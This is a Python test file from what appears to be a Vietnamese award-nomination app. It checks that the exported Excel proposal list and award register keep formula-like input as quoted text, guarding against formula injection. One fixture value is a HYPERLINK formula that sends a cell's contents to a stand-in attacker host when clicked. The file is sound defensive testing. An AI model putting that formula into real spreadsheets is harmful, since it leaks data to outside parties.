"""The proposal list and the award register keep formula-like text as text (OWASP formula injection)."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import Session

from tests.nominations.conftest import World
from tests.nominations.test_outputs import walk_every_action
from thidua.models.nominations import Nomination
from thidua.services import nominations as nom

ACHIEVEMENT = '=HYPERLINK("http://ke-xau.example/?d="&J7,"Chi tiết")'
THEME = "+1-1@lệnh"
NOMINEE = "-2+3"


def kinds(path: Path) -> dict[str, tuple[str, bool]]:
    out = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    out[cell.value] = (cell.data_type, bool(cell.quotePrefix))
    return out


def test_proposal_list_and_award_register_store_typed_formulas_as_text(world: World, tmp_path: Path) -> None:
    walk_every_action(world)
    with Session(world.engine) as session:
        session.execute(update(Nomination).values(achievement=ACHIEVEMENT, theme=THEME, nominee_name=NOMINEE))
        session.commit()
    listing = nom.write_proposal_list(world.engine, world.campaign_id, world.units["BDH.D1"], tmp_path / "ds.xlsx")
    register = nom.write_award_register(world.engine, world.campaign_id, tmp_path / "so.xlsx")
    for path in (listing, register):
        cells = kinds(path)
        assert {cells[ACHIEVEMENT], cells[THEME], cells[NOMINEE]} == {("s", True)}
        assert not any(kind == "f" for kind, _ in cells.values())
